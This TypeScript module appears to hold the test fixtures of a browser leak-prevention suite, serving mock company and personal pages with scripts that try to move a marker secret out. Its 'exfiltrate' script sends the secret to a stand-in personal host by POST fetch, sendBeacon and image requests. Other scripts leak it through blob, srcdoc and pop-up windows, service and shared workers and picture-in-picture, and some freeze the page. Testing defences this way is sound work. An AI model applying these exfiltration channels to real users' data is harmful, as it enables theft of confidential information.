/** What company pages show, once per scenario, so that whoever sees it knows which scenario leaked. */
export const secretOf = (scenario: string): string => `CORPDATA[${scenario}]`;

/** What a personal page shows. */
export const DIARY = 'Dear diary';

/** A page of the leak sites by its name; company hosts show the secret, others the diary. */
export function documentFor(
  page: string,
  scenario: string,
  host: string,
): { readonly type: string; readonly body: string } {
  if (page === 'worker.js') return { type: 'text/javascript', body: SERVICE_WORKER + WORKER_LINE };
  if (page === 'shared.js') return { type: 'text/javascript', body: SHARED_WORKER };
  const company = host.replace(/\.$/, '').endsWith('.corp.contoso.test');
  const text = company ? `${secretOf(scenario)} `.repeat(40) : `${DIARY} `.repeat(40);
  const title = company ? secretOf(scenario) : DIARY;
  const script = SCRIPTS[page] ?? '';
  const body = `<!doctype html><meta charset="utf-8"><title>${title}</title><p>${text}</p><button>A button</button>
<script>const scenario = ${JSON.stringify(scenario)}; const secret = ${JSON.stringify(company ? text : '')};
${script}
document.documentElement.dataset.ready = '';</script>`;
  return { type: 'text/html', body };
}

/** The service worker of the PWA: what was fetched once is answered from its cache, and nothing is asked of the network. */
const SERVICE_WORKER = `
addEventListener('install', (event) => event.waitUntil(skipWaiting()));
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => event.respondWith((async () => {
  const cache = await caches.open('shell');
  const held = await cache.match(event.request, { ignoreSearch: true });
  if (held) return held;
  const response = await fetch(event.request);
  await cache.put(event.request, response.clone());
  return response;
})()));
addEventListener('message', (event) => event.waitUntil((async () => {
  if (event.data.line) return openLine(event.data.line);
  for (let count = 0; count < 600; count++) {
    await fetch('/' + event.data + '/from-worker?' + count).catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
})()));
`;

/** A line of the worker's own: no document holds it, and no rule is asked about what flows on it. */
const WORKER_LINE = `
function openLine(scenario) {
  const socket = new WebSocket('wss://' + location.host + '/' + scenario + '/socket');
  socket.onmessage = () => socket.send('tock');
  return new Promise(() => {});
}
`;

const SHARED_WORKER = `
onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => {
  const socket = new WebSocket('wss://' + location.host + '/' + data + '/socket');
  socket.onmessage = () => socket.send('tock');
  setInterval(() => fetch('/' + data + '/from-shared-worker').catch(() => undefined), 100);
}; };
`;

const live = `
const socket = new WebSocket('wss://' + location.host + '/' + scenario + '/socket');
socket.onmessage = () => socket.send('tock');
new EventSource('/' + scenario + '/events').onmessage = ({ data }) => { document.documentElement.dataset.last = data; };
`;

const frame = (host: string, page: string) => `
const frame = document.createElement('iframe');
frame.src = 'https://${host}/' + scenario + '/${page}';
document.body.append(frame);
`;

const SCRIPTS: Readonly<Record<string, string>> = {
  live,
  // Of event streams a host gets six, in all tabs together.
  socket: `const socket = new WebSocket('wss://' + location.host + '/' + scenario + '/socket');
    socket.onmessage = () => socket.send('tock');`,
  exfiltrate: `setInterval(() => {
    fetch('https://diary.personal.test/' + scenario + '/collect', { method: 'POST', mode: 'no-cors', body: secret }).catch(() => undefined);
    fetch('/' + scenario + '/own').catch(() => undefined);
    navigator.sendBeacon('https://diary.personal.test/' + scenario + '/beacon', secret);
    new Image().src = 'https://diary.personal.test/' + scenario + '/image?' + Math.random();
  }, 100);`,
  'leave-question': `${live} addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; });`,
  alert: `setTimeout(() => alert('stop'), 300);`,
  'busy-loop': `setTimeout(() => { for (;;); }, 300);`,
  'blank-child': `
    const child = open('', '_blank', 'width=300,height=300');
    child.document.write('<title>' + document.title + '</title><p>' + secret);`,
  'blob-child': `open(URL.createObjectURL(new Blob(['<title>' + document.title + '</title><p>' + secret], { type: 'text/html' })), '_blank');`,
  'srcdoc-child': `
    const child = document.createElement('iframe');
    child.srcdoc = '<p>' + secret;
    document.body.append(child);`,
  'blob-frame': `
    const child = document.createElement('iframe');
    child.src = URL.createObjectURL(new Blob(['<p>' + secret], { type: 'text/html' }));
    document.body.append(child);`,
  'install-worker': `navigator.serviceWorker.register('/' + scenario + '/worker.js', { scope: '/' + scenario + '/' });
    navigator.serviceWorker.ready.then(async () => {
      await fetch('/' + scenario + '/shell');
      document.documentElement.dataset.installed = '';
    });`,
  'start-worker': `navigator.serviceWorker.ready.then(({ active }) => active.postMessage(scenario));`,
  'open-worker-line': `navigator.serviceWorker.ready.then(({ active }) => active.postMessage({ line: scenario }));`,
  'shared-worker': `const shared = new SharedWorker('/' + scenario + '/shared.js'); shared.port.postMessage(scenario);`,
  prerendering: `
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['/' + scenario + '/prerendered'] }] });
    document.head.append(rules);
    const link = document.createElement('a');
    link.href = '/' + scenario + '/prerendered';
    document.body.append(link);`,
  downloading: `location.href = '/' + scenario + '/download';`,
  picture: `document.querySelector('button').onclick = async () => {
      const window = await documentPictureInPicture.requestWindow();
      window.document.body.textContent = secret;
      document.documentElement.dataset.picture = '';
    };`,
  pictures: `for (let count = 0; count < 20; count++) { const image = new Image(); image.src = '/' + scenario + '/picture?' + Math.random(); document.body.append(image); }`,
  'company-frame': frame('app.corp.contoso.test', 'live'),
  'company-parts': `
    new Image().src = 'https://app.corp.contoso.test/' + scenario + '/image';
    fetch('https://app.corp.contoso.test/' + scenario + '/data', { mode: 'no-cors' }).catch(() => undefined);
    new WebSocket('wss://app.corp.contoso.test/' + scenario + '/socket');
    ${frame('app.corp.contoso.test', 'live')}`,
};
